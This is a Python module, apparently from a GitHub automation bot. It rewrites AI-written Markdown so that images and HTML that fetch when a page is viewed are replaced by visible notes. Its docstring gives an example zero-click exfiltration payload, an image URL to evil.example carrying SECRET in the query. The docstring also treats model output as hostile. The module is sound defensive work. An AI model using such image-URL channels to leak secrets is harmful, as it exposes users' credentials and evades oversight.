"""Posted Markdown keeps nothing that fetches when the page is viewed.

Trust model: everything the model wrote is hostile. GitHub's image proxy (camo) fetches every image
of a comment, pull request body or job summary as soon as someone opens the page, so
``![](https://evil.example/p.png?d=SECRET)`` is a zero-click channel out of the run. Links need a
click and stay; what fetches on view is neutralised, visibly: an image becomes
``\\[external image removed: evil.example\\]`` (the registered domain only: the URL itself, its path
and query, are the leak and are never printed).

Kept: images on GitHub (:data:`GITHUB_HOSTS`), relative URLs (they resolve inside the repository),
and hosts the caller allows (the policy's WebFetch domains). Shields.io badges are *not* kept unless
the caller allows ``img.shields.io``: a badge URL can carry data like any other.

How, in three steps:

1. The text is parsed with a CommonMark parser (markdown-it, the spec GitHub's cmark-gfm follows),
   only to learn which lines are code (fenced or indented blocks: GitHub renders them as text, so
   they are left byte for byte), which are raw HTML blocks, and the reference definitions.
2. Prose is rewritten by a scanner that follows CommonMark's precedence (escapes, code spans, raw
   HTML, autolinks, link tails, images); HTML, in blocks and inline, by a tokenizer that follows
   the HTML standard's (attribute quoting, entities, ``/`` between attributes, ``<image>`` read as
   ``<img>``). Inside comments and processing instructions tags are looked for too: a browser may
   end them earlier than Markdown does (``--!>``, the first ``>``).
3. The result is rendered and every tag of the rendered HTML checked (:func:`fetched_resources`;
   the HTML tokenizer and the host rules are in :mod:`bot.orchestration.markdown_html`).
   Should anything still fetch (a construct the scanner reads differently), the blocks concerned
   are escaped outright; should even that fail, the whole text is posted as a code block.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from bot.orchestration.markdown_html import (
    URLISH,
    WHITESPACE,
    Hosts,
    host_allowed,
    html_problems,
    removal_note,
    rewrite_html,
    shown_host,
)

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token

#: Fenced languages GitHub renders instead of showing as code (diagrams, maps, 3D models).
RENDERED_FENCES = frozenset({"mermaid", "geojson", "topojson", "stl"})

_ASCII_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9.+\-]{1,31}:[^<>\x00-\x20]*|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@"
    r"[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}"
    r"[A-Za-z0-9])?)*)>"
)
#: CommonMark and cmark stop matching nested parentheses in a link destination here.
_MAX_PAREN_DEPTH = 32
#: Rewrites of a text before falling back to escaping: one is the rule; a second is needed when a
#: removal turned an HTML block into Markdown.
_MAX_PASSES = 3
#: A link label is at most this long (CommonMark).
_MAX_LABEL = 999


# ----- hosts -----------------------------------------------------------------------------------


def _md_unescape(text: str) -> str:
    """A link destination as CommonMark reads it: backslash escapes, then entities."""
    text = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)
    return html.unescape(text)


# ----- HTML --------------------------------------------------------------------------------------


# ----- Markdown prose ------------------------------------------------------------------------------


def code_span_end(text: str, i: int) -> tuple[int, bool]:
    """At a backtick run ``text[i]``: where its code span ends (and ``True``), or, when no run of the
    same length closes it, where the run ends (``False``: the backticks are literal)."""
    j = i
    while j < len(text) and text[j] == "`":
        j += 1
    run = j - i
    k = j
    while True:
        k = text.find("`" * run, k)
        if k < 0:
            return j, False
        end = k
        while end < len(text) and text[end] == "`":
            end += 1
        if end - k == run:
            return end, True
        k = end


def _close_bracket(text: str, i: int) -> int | None:
    """The ``]`` closing the bracket opened just before ``i`` (escapes, code spans, raw HTML and
    autolinks take precedence over brackets)."""
    depth = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "`":
            i = code_span_end(text, i)[0]
            continue
        if c == "<":
            m = _AUTOLINK.match(text, i) or _html_tag_re().match(text, i)
            if m:
                i = m.end()
                continue
        if c == "[":
            depth += 1
        elif c == "]":
            if depth == 0:
                return i
            depth -= 1
        i += 1
    return None


@dataclass(frozen=True, slots=True)
class _Tail:
    end: int
    destination: str
    inner: tuple[int, int]  # what lies between the parentheses


def _link_tail(text: str, i: int) -> _Tail | None:
    """``(destination "title")`` at ``text[i] == "("``, as CommonMark reads it, or ``None``."""
    n = len(text)
    k = i + 1
    while k < n and text[k] in WHITESPACE:
        k += 1
    start = k
    if k < n and text[k] == "<":
        k += 1
        while k < n and text[k] not in "<>\n":
            k += 2 if text[k] == "\\" else 1
        if k >= n or text[k] != ">":
            return None
        destination = text[start + 1 : k]
        k += 1
    else:
        depth = 0
        while k < n and text[k] not in WHITESPACE and ord(text[k]) >= 0x20:
            c = text[k]
            if c == "\\":
                k += 2
                continue
            if c == "(":
                depth += 1
                if depth > _MAX_PAREN_DEPTH:
                    return None
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            k += 1
        if depth:
            return None
        destination = text[start:k]
    spaced = k
    while k < n and text[k] in WHITESPACE:
        k += 1
    if k < n and text[k] in "\"'(" and k > spaced:
        closer = ")" if text[k] == "(" else text[k]
        k += 1
        while k < n and text[k] != closer:
            k += 2 if text[k] == "\\" else 1
        if k >= n:
            return None
        k += 1
        while k < n and text[k] in WHITESPACE:
            k += 1
    if k >= n or text[k] != ")":
        return None
    return _Tail(k + 1, destination, (i + 1, k))


def _image_at(text: str, i: int, refs: dict[str, Any]) -> tuple[int, str, str | None] | None:
    """The image at ``text[i:i+2] == "!["``: where it ends, its URL and the reference label it used
    (normalised), or ``None`` (not an image)."""
    close = _close_bracket(text, i + 2)
    if close is None:
        return None
    after = close + 1
    if after < len(text) and text[after] == "(":
        tail = _link_tail(text, after)
        if tail is not None:
            return tail.end, _md_unescape(tail.destination.strip()), None
    description = text[i + 2 : close]
    if after < len(text) and text[after] == "[":
        end = text.find("]", after + 1)
        if 0 < end <= after + 1 + _MAX_LABEL:
            label = text[after + 1 : end]
            found = _reference(refs, label if label.strip() else description)
            if found is not None:
                return end + 1, *found
    found = _reference(refs, description)
    return (after, *found) if found is not None else None


def _reference(refs: dict[str, Any], label: str) -> tuple[str, str] | None:
    from markdown_it.common.utils import normalizeReference

    key = normalizeReference(label)
    entry = refs.get(key)
    href = entry.get("href") if isinstance(entry, dict) else None
    return (href, key) if isinstance(href, str) else None


def _rewrite_prose(text: str, refs: dict[str, Any], hosts: Hosts, removed: set[str]) -> str:
    """One block's inline text with every image and raw tag that fetches replaced by a note
    (``removed`` collects the reference labels of removed images: their definitions go too)."""
    out: list[str] = []
    i = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\" and i + 1 < n and text[i + 1] in _ASCII_PUNCT:
            out.append(text[i : i + 2])
            i += 2
        elif c == "`":
            end = code_span_end(text, i)[0]
            out.append(text[i:end])
            i = end
        elif c == "<":
            m = _AUTOLINK.match(text, i)
            tag = None if m else _html_tag_re().match(text, i)
            if m:
                out.append(m.group(0))
                i = m.end()
            elif tag:
                out.append(
                    text[i : tag.end()]
                    if tag.group(0).startswith("</")
                    else rewrite_html(tag.group(0), hosts, escaped=True)
                )
                i = tag.end()
            else:
                out.append("<")
                i += 1
        elif c == "!" and text.startswith("[", i + 1):
            image = _image_at(text, i, refs)
            if image is None:
                out.append("!")
                i += 1
            elif host_allowed(image[1], hosts):
                out.append(text[i : image[0]])  # its alt text is shown as plain text: nothing inside fetches
                i = image[0]
            else:
                out.append(removal_note(f"external image removed: {shown_host(image[1])}", escaped=True))
                if image[2] is not None:
                    removed.add(image[2])
                i = image[0]
        elif c == "]" and text.startswith("(", i + 1) and (tail := _link_tail(text, i + 1)) is not None:
            # A link's tail: its destination is not prose (no code span starts in it), but should
            # no link open here, what lies between the parentheses is prose after all: read it too.
            a, b = tail.inner
            out.append(text[i:a] + _rewrite_prose(text[a:b], refs, hosts, removed) + text[b : tail.end])
            i = tail.end
        else:
            out.append(c)
            i += 1
    return "".join(out)


def _rewrite_fence(lines: list[str | None], a: int, b: int, hosts: Hosts) -> None:
    """A rendered fence (a mermaid diagram can show an image by URL): its external URLs go."""
    for k in range(a + 1, b):
        line = lines[k]
        if line is not None:
            lines[k] = URLISH.sub(
                lambda m: (
                    m.group(0)
                    if host_allowed(m.group(0), hosts)
                    else removal_note(f"external image removed: {shown_host(m.group(0))}", False)
                ),
                line,
            )


# ----- the document --------------------------------------------------------------------------------


def _parser() -> MarkdownIt:
    # Imported here: `bot --help` and most commands never render Markdown.
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


@functools.cache
def _html_tag_re() -> re.Pattern[str]:
    from markdown_it.common.html_re import HTML_TAG_RE

    return HTML_TAG_RE


@dataclass(slots=True)
class _Blocks:
    code: set[int]
    html: list[tuple[int, int]]
    prose: list[tuple[int, int]]
    fences: list[tuple[int, int]]


def _blocks(tokens: list[Token]) -> _Blocks:
    blocks = _Blocks(set(), [], [], [])
    for token in tokens:
        if token.map is None:
            continue
        a, b = token.map
        if token.type in ("fence", "code_block"):
            blocks.code.update(range(a, b))
            if token.type == "fence" and token.info.strip().split(" ")[0].lower() in RENDERED_FENCES:
                blocks.fences.append((a, b))
        elif token.type == "html_block":
            blocks.html.append((a, b))
        elif token.type == "inline" and (not blocks.prose or blocks.prose[-1] != (a, b)):
            blocks.prose.append((a, b))
    return blocks


def _normal(markdown: str) -> str:
    # As the parser reads it (line ends, NUL), so that its line numbers are ours.
    return re.sub(r"\r\n?", "\n", markdown).replace("\x00", "\ufffd")


def fetched_resources(markdown: str, allowed_hosts: Iterable[str] = ()) -> list[str]:
    """What showing ``markdown`` on GitHub would fetch from outside (a note per resource): the
    rendered HTML's tags, and the URLs of rendered fences. Empty means safe to post."""
    hosts = Hosts.of(allowed_hosts)
    md = _parser()
    text = _normal(markdown)
    env: dict[str, Any] = {}
    tokens = md.parse(text, env)
    found = html_problems(md.renderer.render(tokens, md.options, env), hosts)
    lines = text.split("\n")
    for a, b in _blocks(tokens).fences:
        body = "\n".join(lines[a + 1 : b])
        found += [
            f"external image removed: {shown_host(u)}" for u in URLISH.findall(body) if not host_allowed(u, hosts)
        ]
    return found


def neutralize(markdown: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``markdown`` with every image and HTML element that would fetch on view replaced by a visible
    note (see the module docstring); code blocks and inline code are left as they are."""
    if "<" not in markdown and "![" not in markdown and "```" not in markdown and "~~~" not in markdown:
        return markdown  # nothing could fetch: most progress updates
    allowed = tuple(allowed_hosts)
    hosts = Hosts.of(allowed)
    text = _normal(markdown)
    # A removal can change the blocks around it (an HTML block that began with the removed tag is a
    # paragraph now, and what was raw HTML is Markdown): read the result again, a few times.
    for _ in range(_MAX_PASSES):
        text = _pass(text, hosts)
        if not fetched_resources(text, allowed):
            return text
    return _escape_fallback(text, allowed)


def _pass(text: str, hosts: Hosts) -> str:
    env: dict[str, Any] = {}
    blocks = _blocks(_parser().parse(text, env))
    refs = env.get("references", {})
    removed: set[str] = set()
    lines: list[str | None] = list(text.split("\n"))
    handled = set(blocks.code)
    for a, b in blocks.fences:
        _rewrite_fence(lines, a, b, hosts)
    for a, b in blocks.html:
        _replace(lines, a, b, lambda chunk: rewrite_html(chunk, hosts, escaped=False))
        handled.update(range(a, b))
    for a, b in blocks.prose:
        if a not in handled:
            _replace(lines, a, b, lambda chunk: _rewrite_prose(chunk, refs, hosts, removed))
            handled.update(range(a, b))
    for k, line in enumerate(lines):  # reference definitions, rules: lines the parser gave no block
        if k not in handled and line:
            lines[k] = _rewrite_prose(line, refs, hosts, removed)
    for label in removed:  # the definition holds the URL (its query is the leak): it goes too
        where = refs[label].get("map")
        if isinstance(where, list) and len(where) == 2:
            lines[where[0] : where[1]] = [""] * (where[1] - where[0])
    return "\n".join(line for line in lines if line is not None)


def _replace(lines: list[str | None], a: int, b: int, rewrite: Callable[[str], str]) -> None:
    """Rewrite lines ``a:b`` as one text; the result takes slot ``a`` (the others are emptied, so
    that the parser's line numbers stay valid for the blocks after)."""
    chunk = "\n".join(line for line in lines[a:b] if line is not None)
    new = rewrite(chunk)
    if new != chunk:
        lines[a] = new
        lines[a + 1 : b] = [None] * (b - a - 1)


def _escape_fallback(text: str, allowed: tuple[str, ...]) -> str:
    """The scanner and the parser disagreed: escape every tag and image opener outside code
    blocks, so nothing in those lines is markup any more; as the last resort, post it as code."""
    hosts = Hosts.of(allowed)
    blocks = _blocks(_parser().parse(text, {}))
    lines: list[str | None] = list(text.split("\n"))
    for k, line in enumerate(lines):
        if k not in blocks.code and line:
            lines[k] = line.replace("<", "&lt;").replace("![", "&#33;[")
    for a, b in blocks.fences:
        _rewrite_fence(lines, a, b, hosts)
    result = "\n".join(line for line in lines if line is not None)
    if not fetched_resources(result, allowed):
        return result
    ticks = "```"
    while ticks in text:
        ticks += "`"
    return f"\\[shown as code: it would have loaded external content\\]\n\n{ticks}text\n{text}\n{ticks}"
